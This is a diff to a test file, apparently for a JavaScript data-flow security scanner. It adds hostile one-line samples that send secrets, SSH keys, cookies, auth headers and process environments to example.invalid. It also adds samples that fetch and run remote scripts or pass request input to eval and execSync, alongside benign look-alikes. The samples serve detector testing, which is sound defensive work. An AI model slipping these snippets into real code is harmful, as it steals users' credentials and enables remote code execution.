@@ -197,6 +197,106 @@ const WAYS: readonly [what: string, fact: string, text: string][] = [
     'threat.security-off',
     "const { BrowserWindow } = require('electron'); new BrowserWindow({ webPreferences: { nodeIntegration: true, contextIsolation: false } }).loadURL('http://example.invalid')",
   ],
+  [
+    'a secret that NestJS hands out',
+    'flow.environment.network',
+    "class A { constructor(private readonly config: ConfigService) {} go() { return fetch('https://example.invalid', { method: 'POST', body: this.config.get('JWT_SECRET') }) } }",
+  ],
+  [
+    'a secret of a worker',
+    'flow.environment.network',
+    "export default { async fetch(request, env) { await fetch('https://example.invalid', { method: 'POST', body: env.SIGNING_SECRET }); return new Response('') } }",
+  ],
+  [
+    'an input of an action',
+    'flow.environment.network',
+    "const core = require('@actions/core'); fetch('https://example.invalid', { method: 'POST', body: core.getInput('github-token') })",
+  ],
+  [
+    'the header of a client',
+    'flow.credentials.network',
+    "app.use((req, res, next) => { fetch('https://example.invalid', { method: 'POST', body: req.headers['authorization'] }); next() })",
+  ],
+  [
+    'a message that becomes a script',
+    'flow.input.eval',
+    "addEventListener('message', (e) => { const s = document.createElement('script'); s.textContent = e.data.code; document.head.append(s) })",
+  ],
+  [
+    'an answer that becomes a script over a Blob',
+    'flow.network.eval',
+    "const t = await (await fetch('https://example.invalid/a.js')).text(); const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([t])); document.body.append(s)",
+  ],
+  [
+    'the address of the page in a timer',
+    'flow.input.eval',
+    "setTimeout(new URLSearchParams(location.search).get('cb'), 0)",
+  ],
+  [
+    'what a model file says about itself',
+    'flow.input.eval',
+    "const m = await tf.loadLayersModel('model.json'); new Function('t', m.getUserDefinedMetadata().before)",
+  ],
+  [
+    'the body that Koa hands over',
+    'flow.network.eval',
+    "router.post('/x', async (ctx) => { require('vm').runInNewContext(ctx.request.body.script) })",
+  ],
+  [
+    'a key that an editor reads',
+    'flow.credentials.network',
+    "const vscode = require('vscode'); const os = require('os'); const b = await vscode.workspace.fs.readFile(vscode.Uri.file(os.homedir() + '/.ssh/id_rsa')); fetch('https://example.invalid', { method: 'POST', body: b })",
+  ],
+  [
+    'a setup that an action downloads',
+    'flow.network.process',
+    "const tc = require('@actions/tool-cache'); const f = await tc.downloadTool('https://example.invalid/setup.sh'); await require('@actions/exec').exec('bash', [f])",
+  ],
+  [
+    'a token in the address of a script',
+    'flow.credentials.network',
+    "const s = document.createElement('script'); s.setAttribute('src', 'https://example.invalid/?t=' + localStorage.getItem('jwt')); document.head.append(s)",
+  ],
+  [
+    'the input of curl',
+    'flow.credentials.network',
+    "require('child_process').execSync('curl -d @- https://example.invalid', { input: require('fs').readFileSync('/proc/1/environ') })",
+  ],
+  [
+    'the header that middleware sees',
+    'flow.credentials.network',
+    "export function middleware(req) { fetch('https://example.invalid', { method: 'POST', body: req.headers.get('authorization') }) }",
+  ],
+  [
+    'the session that a cookie holds',
+    'flow.credentials.network',
+    "export const handle = ({ event, resolve }) => { fetch('https://example.invalid', { method: 'POST', body: event.cookies.get('session') }); return resolve(event) }",
+  ],
+  [
+    'the body that Nitro reads',
+    'flow.network.eval',
+    'export default defineEventHandler(async (event) => eval((await readBody(event)).code))',
+  ],
+  [
+    'the form that Remix hands over',
+    'flow.network.process',
+    "export async function action({ request }) { const f = await request.formData(); require('child_process').execSync(String(f.get('cmd'))) }",
+  ],
+  [
+    'forms of a page in a beacon',
+    'flow.credentials.network',
+    "document.addEventListener('submit', (e) => navigator.sendBeacon('https://example.invalid', new FormData(e.target)), true)",
+  ],
+  [
+    'what a tab stores',
+    'flow.credentials.network',
+    "const r = await chrome.scripting.executeScript({ target: { tabId: 1 }, func: () => document.cookie }); await fetch('https://example.invalid', { method: 'POST', body: JSON.stringify(r) })",
+  ],
+  [
+    'the address of the page as markup of React',
+    'flow.input.eval',
+    "const A = () => <p dangerouslySetInnerHTML={{ __html: new URLSearchParams(location.search).get('q') }} />",
+  ],
 ]
 
 describe('a way through JavaScript', () => {
@@ -253,6 +353,34 @@ const HONEST: readonly [what: string, text: string][] = [
   [
     'glue that makes functions for WebAssembly',
     'WebAssembly.instantiate(bytes, { wbg: { newFunction: (a, b) => new Function(text(a, b)) } })',
+  ],
+  [
+    'a tool that an action unpacks and starts',
+    "const tc = require('@actions/tool-cache'); const f = await tc.downloadTool('https://example.invalid/tool.tgz'); const d = await tc.extractTar(f); await require('@actions/exec').exec(d + '/tool', ['--version'])",
+  ],
+  [
+    'the token of an action for its own service',
+    "const core = require('@actions/core'); require('@actions/github').getOctokit(core.getInput('token')).rest.issues.list()",
+  ],
+  [
+    'a style that comes in a message',
+    "addEventListener('message', (e) => { const s = document.createElement('style'); s.textContent = e.data.css; document.head.append(s) })",
+  ],
+  [
+    'a header that a proxy passes on',
+    "app.use((req, res) => fetch('https://api.example.invalid', { headers: { authorization: req.headers.authorization } }))",
+  ],
+  [
+    'a secret of a worker that signs in',
+    "export default { fetch: (request, env) => fetch('https://api.example.invalid', { headers: { Authorization: `Bearer ${env.API_TOKEN}` } }) }",
+  ],
+  [
+    'a form that is checked before it goes to its own server',
+    "document.addEventListener('submit', async (e) => { e.preventDefault(); await fetch('/contact', { method: 'POST', body: new FormData(e.target) }) })",
+  ],
+  [
+    'a middleware that asks who signed in',
+    "export async function middleware(req) { const t = req.cookies.get('session'); if (t === undefined) return Response.redirect('/login'); return fetch('https://auth.example.invalid/me', { headers: { authorization: `Bearer ${t.value}` } }) }",
   ],
 ]
 
